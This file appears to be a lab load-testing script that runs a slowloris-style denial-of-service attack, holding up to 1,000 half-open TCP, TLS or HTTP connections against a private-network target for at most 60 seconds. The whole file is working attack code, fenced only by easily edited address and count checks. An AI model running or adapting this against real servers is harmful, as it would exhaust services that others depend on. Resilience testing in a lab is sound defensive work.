"""Open connections and leave them unfinished, without credentials; runs on a node of a lab, with Python alone.

python3 red_load.py SUBNET ADDRESS PORT KIND COUNT SECONDS

KIND is `connect`, `handshake`, `headers` or `body`. It ends by itself, and connects only within the lab. Connections
that a server closes are opened again, at most COUNT at a time and ten times as many in total.
"""

import asyncio
import ipaddress
import json
import resource
import ssl
import sys
import time

MOST, LONGEST = 1_000, 60.0
"""Limits of simultaneous connections and seconds: a caller's mistake must not become an attack."""
HELLO = bytes.fromhex("160301020001000001fc0303")
"""A TLS record that announces 512 bytes of a ClientHello, followed by 12."""
HEADERS = b"GET / HTTP/1.1\r\nHost: x\r\nX-A: "
BODY = b"POST /login HTTP/1.1\r\nHost: x\r\nOrigin: https://x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
BODY += b"Content-Length: 65000\r\n\r\ntoken=" + b"a" * 1_000
SAID = {"connect": b"", "handshake": HELLO, "headers": HEADERS, "body": BODY}

# No certificate is checked, because nothing secret is sent. One context for all: creating one takes a tenth of a
# second.
CARELESS = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
CARELESS.check_hostname, CARELESS.verify_mode = False, ssl.CERT_NONE


class Load:
    """Counts of tried connections, of opened ones, and of the maximum at a time."""

    def __init__(self) -> None:
        self.tried = self.opened = self.open = self.most = 0

    async def one(self, address: str, port: int, kind: str, end: float, limit: int) -> None:
        """Hold one connection until the end; reopen it if the server closes it."""
        wrapped = CARELESS if kind in ("headers", "body") else None
        while time.monotonic() < end and self.tried < limit:
            self.tried += 1
            writer = None
            try:
                async with asyncio.timeout_at(asyncio.get_running_loop().time() + max(0.1, end - time.monotonic())):
                    reader, writer = await asyncio.open_connection(address, port, ssl=wrapped)
                    self.opened, self.open = self.opened + 1, self.open + 1
                    self.most = max(self.most, self.open)
                    writer.write(SAID[kind])
                    while await reader.read(4096):
                        pass
            except (OSError, TimeoutError):
                pass
            finally:
                if writer:
                    self.open -= 1
                    writer.transport.abort()
            await asyncio.sleep(0.2)


def checked(subnet: str, address: str, kind: str, count: int, seconds: float) -> None:
    """Check the limits of the attack.

    :raises SystemExit: it would exceed a test of a lab, or leave the lab.
    """
    there = ipaddress.ip_address(address)
    if not (there.is_loopback or (there in ipaddress.ip_network(subnet) and there.is_private)):
        raise SystemExit(f"{address} is not in the lab's network {subnet}.")
    if kind not in SAID or not 0 < count <= MOST or not 0 < seconds <= LONGEST:
        raise SystemExit(f"{kind}, {count} connections or {seconds} s is not allowed.")


async def run(address: str, port: int, kind: str, count: int, seconds: float) -> Load:
    load, end = Load(), time.monotonic() + seconds
    await asyncio.gather(*(load.one(address, port, kind, end, 10 * count) for _ in range(count)))
    return load


if __name__ == "__main__":
    subnet, address, port, kind, count, seconds = sys.argv[1:]
    checked(subnet, address, kind, int(count), float(seconds))
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 8192), hard))
    found = asyncio.run(run(address, int(port), kind, int(count), float(seconds)))
    print(json.dumps({"tried": found.tried, "opened": found.opened, "most": found.most}))
